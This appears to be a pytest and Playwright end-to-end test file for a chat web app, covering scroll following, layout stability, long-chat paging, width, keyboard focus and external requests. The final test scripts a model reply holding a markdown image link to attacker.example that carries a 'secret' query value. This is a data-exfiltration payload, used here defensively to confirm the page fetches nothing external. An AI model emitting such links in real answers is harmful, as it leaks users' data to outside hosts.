"""The page: stable layout, width, keyboard access, and no external requests."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Browser, Request, expect

from tests.e2e.chatting import Person, person, pixels_below, position
from tests.e2e.watching import FITS_WIDTH, NARROW, UNNAMED_CONTROLS, WIDE
from tests.endpoint import Model, Script
from tests.installation import Installation
from tests.waiting import until

pytestmark = pytest.mark.extended
LONG = tuple(f"Paragraph {number} of many, with words.\n\n" for number in range(60))


def test_page_follows_the_end_unless_the_user_scrolls_up(keeper: Person, model: Model) -> None:
    page = keeper.page
    model.script = Script(pieces=LONG, pause=0.02, gate_at=45)
    keeper.ask_in_new_chat("Much")
    expect(keeper.words).to_contain_text("Paragraph 44")
    until(lambda: pixels_below(page) <= 1, 60, "the end to be in view")
    page.locator("[data-scroller]").hover()
    page.mouse.wheel(0, -600)
    until(lambda: pixels_below(page) > 300, 60, "the reader to be above")
    jump = page.get_by_role("button", name="Jump to the end")
    expect(jump).to_be_visible()
    before = position(page)
    model.gate.set()
    keeper.wait_for_end()
    assert position(page) == before
    jump.click()
    until(lambda: pixels_below(page) <= 1, 60, "the end")
    expect(jump).to_be_hidden()


def test_layout_does_not_move_when_the_answer_ends(keeper: Person, model: Model) -> None:
    model.script = Script(pieces=("Almost", " done."), gate_at=2)
    keeper.ask_in_new_chat("Still?")
    expect(keeper.words).to_have_text("Almost done.")
    expect(keeper.prompts.get_by_role("button", name="Edit this message")).to_be_visible()
    before = (keeper.answers.bounding_box(), keeper.words.bounding_box())
    model.gate.set()
    keeper.wait_for_end()
    assert (keeper.answers.bounding_box(), keeper.words.bounding_box()) == before


def test_long_chat_keeps_its_shown_messages(keeper: Person, model: Model) -> None:
    model.script = Script(pieces=("Yes.",))
    keeper.ask_in_new_chat("Number 0")
    keeper.wait_for_end()
    chat = keeper.page.url.rsplit("/", 1)[-1]
    with keeper.installation.api() as api:
        for number in range(1, 33):
            api.post(f"/actions/chats/{chat}/messages", json={"prompt": f"Number {number}"})
    keeper.page.reload()
    expect(keeper.answers).to_have_count(30)
    expect(keeper.page.get_by_role("link", name="Show 6 earlier messages")).to_be_visible()
    keeper.ask("Number 33")
    expect(keeper.answers).to_have_count(31)
    keeper.wait_for_end()
    expect(keeper.answers).to_have_count(31)
    keeper.page.get_by_role("link", name="Show 6 earlier messages").click()
    expect(keeper.answers).to_have_count(34)


FOCUSED = """() => {
    const on = document.activeElement;
    const ring = (one) => {
        const style = getComputedStyle(one);
        return style.outlineStyle !== "none" || style.boxShadow !== "none";
    };
    const shown = on === document.body || ring(on) || ring(on.closest(".composer-box") ?? on);
    return `${shown} ${on.getAttribute("aria-label") || on.textContent.trim().slice(0, 40)}`;
}"""


@pytest.mark.parametrize("viewport", [WIDE, NARROW], ids=["wide", "narrow"])
def test_pages_fit_and_all_controls_are_named_and_focusable(
    browser: Browser, club: Installation, model: Model, session: Any, viewport: dict[str, int]
) -> None:
    wide = "| a | b |\n|--|--|\n| " + "x" * 200 + " | " + "y" * 200 + " |\n\n"
    model.script = Script(pieces=(wide, "```\n" + "z" * 400 + "\n```\n\n", "w" * 300))
    with person(browser, club, model, session, viewport) as somebody:
        page = somebody.page
        somebody.ask_in_new_chat("q" * 200)
        somebody.wait_for_end()
        for path in ("/chats", "/chats/new", "/chats?archived=1", page.url):
            page.goto(path if "://" in path else club.url + path)
            assert page.evaluate(FITS_WIDTH), path
            assert page.evaluate(UNNAMED_CONTROLS) == [], path
        names = ("Message", "Options of this chat", "Copy the answer", "Edit this message")
        wanted, reached = {f"true {name}" for name in names}, set()
        for pressed in range(1, 400):  # the list of chats is long where other tests have chatted
            page.keyboard.press("Tab")
            reached.add(page.evaluate(FOCUSED))
            if pressed >= 60 and wanted <= reached:
                break
        assert wanted <= reached
        assert not [one for one in reached if one.startswith("false")]
        if viewport == NARROW:
            expect(page.locator("[data-list]")).to_be_hidden()
            page.get_by_role("link", name="All chats").click()
            expect(page.locator("[data-list]")).to_be_visible()
            expect(page.locator("[data-conversation]")).to_be_hidden()


def test_page_makes_no_external_requests(keeper: Person, model: Model) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((keeper.installation.url, "data:", "blob:")):
            asked.append(request.url)

    keeper.page.on("request", note)
    model.script = Script(pieces=("![x](https://attacker.example/p.png?q=secret)",))
    keeper.ask_in_new_chat("Picture?")
    keeper.wait_for_end()
    assert asked == []
